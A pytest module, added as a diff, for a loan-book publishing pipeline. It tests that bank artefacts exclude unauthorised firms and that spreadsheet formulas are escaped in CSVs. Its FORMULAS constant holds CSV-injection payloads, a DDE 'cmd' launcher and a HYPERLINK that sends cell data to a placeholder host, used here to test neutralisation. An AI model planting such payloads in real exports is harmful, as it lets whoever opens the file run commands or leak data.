@@ -1,0 +1,211 @@
+"""One gate for everything a bank receives: on a scored loan book whose authorisations are redelivered
+with grants revoked and expired (beside the firms that never granted one), no artefact of any bank
+(its schema's tables, its Parquet, CSVs and workbook, its report batch, its `bank query` results)
+holds a firm without a valid authorisation on the date, and the authorised firms are all there. Text
+a spreadsheet would run as a formula (a firm named `=cmd|...`) reaches the CSVs neutralised."""
+
+import hashlib
+import io
+import re
+import shutil
+from datetime import date, timedelta
+from pathlib import Path
+
+import duckdb
+import pandas as pd
+import pytest
+
+from lending.eligibility import build_eligibility
+from lending.products import load_products
+from lending.publish import _csv, publish
+from lending.warnings import update_warnings
+from reports.firm import bank_batches
+from valuecredit.calendar import WorkingDays
+from valuecredit.cli import main
+from valuecredit.ingest import ingest_source
+from valuecredit.ledger.config import load_pool_config
+from valuecredit.ledger.store import post_business_date
+from valuecredit.scoring.catalogue import load_catalogue
+
+DAY = date(2026, 11, 28)  # the loan book's business date: its files were all loaded on it
+PRODUCTS, CAT = load_products(), load_catalogue()
+BANKS = sorted(PRODUCTS.banks)
+FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?d="&A2,"click")')
+USCC = re.compile(r"[0-9A-Z]{18}")
+REPORTS_PER_BANK = 4
+
+
+def valid_on(frame: pd.DataFrame, day: date) -> set[str]:
+    """The firms with a valid grant on `day`, from the delivered rows (the test's own reading of the rule)."""
+    d = pd.Timestamp(day)
+    granted, expires = pd.to_datetime(frame.granted_on), pd.to_datetime(frame.expires_on)
+    revoked = pd.to_datetime(frame.revoked_on.replace("", None))
+    ok = (granted <= d) & (expires > d) & (revoked.isna() | (revoked > d))
+    return set(frame.uscc[ok])
+
+
+def redeliver_source(src: Path, dst: Path, source: str, edit) -> pd.DataFrame:
+    """Copy every file of `source` from the landing zone `src` into `dst` (a landing zone of its own),
+    `edit` applied to each file's rows; an edited file is redelivered on DAY, in its own encoding."""
+    manifest = pd.read_csv(src / "manifest.csv", dtype=str, keep_default_na=False)
+    rows = manifest[manifest.source == source].copy()
+    frames = []
+    for i, entry in rows.iterrows():
+        frame = pd.read_csv(src / entry.file, dtype=str, keep_default_na=False, encoding=entry.encoding)
+        edited = edit(frame.copy())
+        (dst / entry.file).parent.mkdir(parents=True, exist_ok=True)
+        if edited.equals(frame):
+            shutil.copy(src / entry.file, dst / entry.file)
+        else:
+            edited.to_csv(dst / entry.file, index=False, encoding=entry.encoding)
+            raw = (dst / entry.file).read_bytes()
+            rows.loc[i, ["sha256", "bytes", "delivered_on"]] = [hashlib.sha256(raw).hexdigest(), str(len(raw)),
+                                                               DAY.isoformat()]
+        frames.append(edited)
+    old = pd.read_csv(dst / "manifest.csv", dtype=str, keep_default_na=False) if (dst / "manifest.csv").exists() else None
+    pd.concat([old, rows] if old is not None else [rows]).to_csv(dst / "manifest.csv", index=False)
+    return pd.concat(frames, ignore_index=True)
+
+
+@pytest.fixture(scope="module")
+def gated(loan_book, score_loan_book, tmp_path_factory):
+    work = tmp_path_factory.mktemp("gate")
+    _, landing, _ = loan_book
+    night = score_loan_book(work, (DAY,))
+    con = night.con
+    post_business_date(con, DAY, load_pool_config(), WorkingDays.load())
+    update_warnings(con, DAY)
+    build_eligibility(con, DAY, PRODUCTS)
+
+    manifest = pd.read_csv(landing / "manifest.csv", dtype=str, keep_default_na=False)
+    grants = pd.concat([pd.read_csv(landing / f, dtype=str, keep_default_na=False)
+                        for f in manifest[manifest.source == "authorisations"].file])
+    authorised = valid_on(grants, DAY)
+    once = set(grants.uscc.value_counts().loc[lambda n: n == 1].index)  # one row: one file to edit
+    warned = sorted(u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
+                    .fetchall())
+    # B03's eligible firms, largest limits first: the ones its report batch would take
+    top = [u for (u,) in con.execute("""
+        SELECT p.uscc FROM decisions.eligibility_pairs p JOIN decisions.eligibility_products USING (as_of, product_id)
+        WHERE p.as_of = ? AND p.eligible AND bank_id = 'B03' GROUP BY p.uscc
+        ORDER BY max(p.computed_limit_fen) DESC, p.uscc""", [DAY]).fetchall()]
+    never = [u for u in warned if u not in set(grants.uscc)]
+    warned_ok = [u for u in warned if u in authorised & once and u not in top]
+    top_ok = [u for u in top if u in authorised & once and u not in warned]
+    revoked, expired = {warned_ok[0], top_ok[0]}, {warned_ok[1], top_ok[1]}
+    assert {top_ok[0], top_ok[1]} <= set(top[:REPORTS_PER_BANK])  # in B03's batch but for the gate
+    renamed = dict(zip(top_ok[2:4], FORMULAS))  # authorised, eligible at B03, in its batch
+    assert never and len(warned_ok) > 3 and len(top_ok) > 4
+
+    def authorisations(frame):
+        frame.loc[frame.uscc.isin(revoked), "revoked_on"] = (DAY - timedelta(days=3)).isoformat()
+        frame.loc[frame.uscc.isin(expired), "expires_on"] = (DAY - timedelta(days=1)).isoformat()
+        return frame
+
+    def registry(frame):
+        frame["name"] = frame.uscc.map(renamed).fillna(frame["name"])
+        return frame
+
+    edited = work / "redelivered"
+    redeliver_source(landing, edited, "registry", registry)
+    now = valid_on(redeliver_source(landing, edited, "authorisations", authorisations), DAY)
+    assert now == authorised - revoked - expired
+    for source in ("authorisations", "registry"):  # DAY's partition again: the files as redelivered
+        outcome = ingest_source(con, edited, source, DAY)
+        assert not outcome.rejected and not outcome.quarantined_by_rule, outcome
+    build_eligibility(con, DAY, PRODUCTS)
+    out, reports = work / "publish", work / "reports"
+    publish(con, DAY, PRODUCTS, out)
+    bank_batches(con, BANKS, DAY, CAT, reports, limit=REPORTS_PER_BANK)
+    scored = {u for (u,) in con.execute("SELECT uscc FROM scores.commercial_value WHERE as_of = ?", [DAY]).fetchall()}
+    con.execute("CHECKPOINT")
+    yield {"con": con, "db": work / "night.duckdb", "out": out, "reports": reports, "authorised": now,
+           "unauthorised": scored - now, "victims": revoked | expired | set(never), "warned": set(warned_ok[2:]),
+           "batch": [u for u in top if u in now][:REPORTS_PER_BANK], "renamed": renamed}
+    con.close()
+
+
+def firms_in_frame(frame: pd.DataFrame) -> set[str]:
+    return {v for col in frame.columns for v in frame[col].astype(str) if USCC.fullmatch(v)}
+
+
+def bank_artefacts(g, capsys) -> dict[tuple[str, str], set[str]]:
+    """(bank, artefact) -> the USCCs in it, for every artefact of every bank."""
+    con, found = g["con"], {}
+    for bank in BANKS:
+        schema = f"bank_{bank.lower()}"
+        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = ?",
+                                    [schema]).fetchall():
+            found[bank, f"table {table}"] = firms_in_frame(con.execute(f'SELECT * FROM {schema}."{table}"').df())
+        for path in sorted((g["out"] / bank).rglob("*")):
+            if path.is_dir():
+                continue
+            kind = path.suffix or path.name
+            if kind == ".parquet":
+                found[bank, path.name] = firms_in_frame(pd.read_parquet(path))
+            elif kind == ".xlsx":
+                found[bank, path.name] = set().union(*map(firms_in_frame, pd.read_excel(path, sheet_name=None).values()))
+            else:  # CSVs and LATEST
+                found[bank, path.name] = set(USCC.findall(path.read_text(encoding="utf-8-sig")))
+        for path in sorted((g["reports"] / bank).rglob("*.html")):
+            found[bank, f"report {path.name}"] = set(USCC.findall(path.read_text(encoding="utf-8")))
+        for table in ("eligibility", "early_warnings"):
+            assert main(["bank", "query", "--bank", bank, "--publish", str(g["out"]), f"SELECT * FROM {table}"]) == 0
+            found[bank, f"bank query {table}"] = set(USCC.findall(capsys.readouterr().out))
+    return found
+
+
+def test_no_bank_artefact_holds_a_firm_without_a_valid_authorisation(gated, capsys):
+    found = bank_artefacts(gated, capsys)
+    kinds = {a.split(" ")[0] if " " in a else a for _, a in found}
+    assert kinds == {"table", "eligibility.parquet", "eligibility.csv", "eligibility.xlsx", "early_warnings.csv",
+                     "LATEST", "report", "bank"}
+    assert len(found) > 17 * 9
+    leaks = {k: sorted(v & gated["unauthorised"]) for k, v in found.items() if v & gated["unauthorised"]}
+    assert leaks == {}
+    assert gated["victims"] <= gated["unauthorised"]
+    # the gate is no blanket: the authorised borrowers' warnings and eligible firms all reach their banks
+    everything = set().union(*found.values())
+    assert gated["warned"] <= everything
+    warned_tables = set().union(*(v for (_, a), v in found.items() if a == "table early_warnings"))
+    con = gated["con"]
+    expected = {u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
+                .fetchall()} & gated["authorised"]
+    assert warned_tables == expected and gated["warned"] <= expected
+    # every authorised firm is decided for every product, so each is in some bank's eligibility
+    assert set().union(*(v for (_, a), v in found.items() if a == "eligibility.parquet")) == {
+        u for (u,) in con.execute("SELECT uscc FROM decisions.eligibility_firms WHERE as_of = ?", [DAY]).fetchall()
+    } & gated["authorised"]
+    # B03's batch: its authorised eligible firms with the largest limits
+    assert found["B03", "report index.html"] == set(gated["batch"])
+
+
+def test_firm_names_that_are_formulas_reach_every_csv_as_text(gated, capsys):
+    folder = gated["out"] / "B03" / DAY.isoformat()
+    csv = pd.read_csv(folder / "eligibility.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    parquet = pd.read_parquet(folder / "eligibility.parquet")
+    for uscc, name in gated["renamed"].items():
+        assert set(csv.firm_name[csv.uscc == uscc]) == {"'" + name}  # Excel shows it, does not run it
+        assert set(parquet.firm_name[parquet.uscc == uscc]) == {name}  # Parquet keeps the value as delivered
+    assert not csv.firm_name.str.match(r"[=+\-@\t\r]").any()
+    assert (csv.limit_fen.astype(int) >= 0).all()  # numbers stay numbers
+    assert main(["bank", "query", "--bank", "B03", "--publish", str(gated["out"]),
+                 "SELECT uscc, firm_name, limit_fen, '-1' AS t FROM eligibility WHERE firm_name LIKE '=%' "
+                 "ORDER BY uscc, product_id"]) == 0
+    got = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
+    assert set(zip(got.uscc, got.firm_name)) == {(u, "'" + n) for u, n in gated["renamed"].items()}
+    assert (got.t == "'-1").all() and got.limit_fen.str.fullmatch(r"\d+").all()
+
+
+def test_every_text_cell_a_spreadsheet_would_run_is_neutralised_in_a_published_csv(tmp_path):
+    con = duckdb.connect()
+    _csv(con, """SELECT * FROM (VALUES ('w1', '=1+2', -3, 'a=b'), ('w2', '+41', 4, '@SUM(A1)'),
+                                       ('w3', '-2', NULL, chr(9) || 'tab'), ('w4', chr(13) || 'cr', 5, NULL))
+                 t(warning_id, evidence, n, kind)""", tmp_path / "w.csv")
+    raw = (tmp_path / "w.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    frame = pd.read_csv(tmp_path / "w.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert list(frame.columns) == ["warning_id", "evidence", "n", "kind"]
+    assert frame.evidence.tolist() == ["'=1+2", "'+41", "'-2", "'\rcr"]
+    assert frame.kind.tolist() == ["a=b", "'@SUM(A1)", "'\ttab", ""]
+    assert frame.n.tolist() == ["-3", "4", "", "5"]  # a number is never text
